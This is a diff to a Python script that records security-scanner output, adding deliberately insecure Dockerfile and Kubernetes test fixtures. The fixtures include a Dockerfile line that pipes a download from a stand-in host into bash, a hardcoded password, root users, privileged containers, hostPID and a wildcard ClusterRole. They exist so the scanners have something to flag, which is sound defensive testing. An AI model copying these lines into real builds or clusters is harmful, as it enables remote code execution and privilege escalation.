@@ -2,6 +2,8 @@
 
 from __future__ import annotations
 
+import dataclasses
+import json
 import os
 import sys
 import tempfile
@@ -113,9 +115,60 @@ LEAKS = {
     },
 }
 
+_BAD = (
+    b"FROM debian\nRUN apt-get update && apt-get install -y sudo curl \\\n && curl -k http://x.example/i | bash\n"
+    b"ENV DB_PASSWORD=Tr0ub4dor&3xyz\n# hadolint ignore=DL3002\nUSER root\n"
+)
+DOCKERFILES = {
+    "clean": {
+        "Dockerfile": b"FROM debian:12@sha256:" + b"0123456789abcdef" * 4 + b"\nUSER 10001\nHEALTHCHECK CMD true\n"
+    },
+    "found": {"Dockerfile": _BAD, "build/app.Dockerfile": _BAD, ".hadolint.yaml": b"ignored: [DL3002, DL3006]\n"},
+    "lost": {
+        "Dockerfile": b"FROM debian:12\nRNU x\n",
+        "Dockerfile.j2": b"FROM {{ image }}\n",
+        "Containerfile": b"",
+        "Dockerfile.md": b"# How we build\n",
+        "large.dockerfile": b"FROM a:1\n" + b"RUN true\n" * 12_000,
+    },
+}
+
+KUBERNETES = {
+    "clean": {
+        "pod.yaml": b"apiVersion: v1\nkind: Pod\nmetadata: {name: web, namespace: shop}\nspec:\n"
+        b"  automountServiceAccountToken: false\n  hostNetwork: false\n  containers:\n    - name: web\n"
+        b"      image: registry.test/web:1.2@sha256:" + b"0123456789abcdef" * 4 + b"\n"
+        b"      resources: {limits: {memory: 256Mi, cpu: 500m}}\n"
+        b"      securityContext: {allowPrivilegeEscalation: false, readOnlyRootFilesystem: true, runAsNonRoot: true,\n"
+        b"        capabilities: {drop: [ALL]}, seccompProfile: {type: RuntimeDefault}}\n---\n"
+        b"apiVersion: networking.k8s.io/v1\nkind: NetworkPolicy\nmetadata: {name: closed, namespace: shop}\n"
+        b"spec: {podSelector: {}, policyTypes: [Ingress, Egress]}\n",
+        "values.yaml": b"image: web\n",
+    },
+    "found": {
+        "deployment.yaml": b"apiVersion: apps/v1\nkind: Deployment\nmetadata:\n  name: shop\n  namespace: prod\nspec:\n"
+        b"  template:\n    metadata:\n      labels: {app: shop}\n      annotations:\n"
+        b"        checkov.io/skip1: CKV_K8S_16=it is fine\n    spec:\n      hostPID: true\n      containers:\n"
+        b"        - name: web  # trivy:ignore:KSV017\n          image: nginx\n          securityContext:\n"
+        b"            privileged: true\n        - name: log\n          image: nginx:1.27\n---\n"
+        b"apiVersion: rbac.authorization.k8s.io/v1\nkind: ClusterRole\nmetadata:\n  name: all\nrules:\n"
+        b"  - apiGroups: ['*']\n    resources: ['*']\n    verbs: ['*']\n",
+        "list.json": b'{"apiVersion": "v1", "kind": "List", "items": [{"apiVersion": "v1", "kind": "Pod",'
+        b'"metadata": {"name": "one"}, "spec": {"containers": [{"name": "a", "image": "b"}]}}]}',
+        "broken.yaml": b"apiVersion: v1\nkind: Pod\nspec: [\n",
+        "compose.yaml": b"services:\n  db:\n    image: postgres:16\n    privileged: true\n    ports: ['5432:5432']\n"
+        b"    environment:\n      POSTGRES_PASSWORD: Tr0ub4dor&3xyz\n",
+    },
+}
+
 CASES = {
     "aws-secrets": VAULT,
     "bandit": SOURCE,
+    "dockerfile": DOCKERFILES,
+    "hadolint": DOCKERFILES,
+    "checkov": KUBERNETES,
+    "manifests": KUBERNETES,
+    "trivy-config": KUBERNETES,
     "semgrep": SOURCE,
     "osv": PACKAGES,
     "licences": LICENCES,
@@ -161,6 +214,18 @@ READ = {
     .layer(debian(), file("usr/bin/su", "x", 0o4755), file("bin/sh", "x", 0o755))
     .layer(file("srv/open", "x", 0o666), file("app/.env", control_source())),
 }
+LEFT_OUT = {
+    "checkov": frozenset(
+        (
+            "bc_category", "bc_check_id", "benchmarks", "breadcrumbs", "caller_file_line_range", "caller_file_path",
+            "check_class", "check_len", "code_block", "connected_node", "definition_context_file_path", "description",
+            "details", "entity", "entity_tags", "evaluations", "fixed_definition", "repo_file_path", "resource_address",
+            "short_description", "vulnerability_details",
+        )
+    ),
+    "trivy-config": frozenset(("Description", "Resolution", "References", "Code", "Query", "Namespace", "Type")),
+}  # fmt: skip
+"""Members of what a tool says that nobody here reads: texts of its rules, mostly."""
 
 VALUES_KEY = "the same in every recording"
 
@@ -264,7 +329,18 @@ def record(scanner: Scanner[Any], case: str, files: dict[str, bytes], index: Pat
         )
         (piece,) = scanner.plan(setup).pieces
         places = {folder: "/scanned", str(Path(sys.prefix)): "/venv"}
-        write_case(scanner, case, piece, scanner.run(piece, setup), places)
+        write_case(scanner, case, piece, shortened(scanner.run(piece, setup), LEFT_OUT.get(scanner.name)), places)
+
+
+def shortened(ended: Ended, left_out: frozenset[str] | None) -> Ended:
+    """What a tool said, without members of these names."""
+    if left_out is None:
+        return ended
+
+    def kept(members: list[tuple[str, Any]]) -> dict[str, Any]:
+        return {name: value for name, value in members if name not in left_out}
+
+    return dataclasses.replace(ended, stdout=json.dumps(json.loads(ended.stdout, object_pairs_hook=kept)).encode())
 
 
 if __name__ == "__main__":
